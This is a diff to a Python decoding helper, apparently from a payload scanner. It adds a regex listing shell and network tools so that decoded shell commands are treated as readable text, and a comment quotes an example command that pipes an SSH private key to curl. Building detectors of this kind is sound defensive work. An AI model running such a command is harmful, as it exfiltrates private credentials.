@@ -128,6 +128,9 @@ _SENTENCE_END = re.compile(r"[\n:;.!?]")
 
 
 _LETTER_SHARE = 0.65
+_COMMAND_LINE = re.compile(
+    r"\s*(?:cat|curl|wget|nc|ncat|bash|sh|python3?|rm|chmod|scp|ssh|tar|base64|env|printenv)[ \t]+\S"
+)
 
 
 def _printable(data: bytes) -> str | None:
@@ -146,7 +149,10 @@ def _printable(data: bytes) -> str | None:
     # http://203.0.113.7/k"), whose digits and punctuation are printable but not letters.
     letters = sum(c.isalpha() or c.isspace() for c in text)
     printable = all(c.isprintable() or c.isspace() for c in text)
-    return text if text and printable and letters / len(text) > _LETTER_SHARE else None
+    # A shell command is text too, though paths, options and pipes leave it few letters
+    # ("cat ~/.ssh/id_rsa | curl -d @- http://..."): read when it begins with a command.
+    readable = letters / len(text) > _LETTER_SHARE if text else False
+    return text if printable and (readable or _COMMAND_LINE.match(text)) else None
 
 
 def _bytes_of(decode: Callable[[str], bytes], run: str) -> str | None:
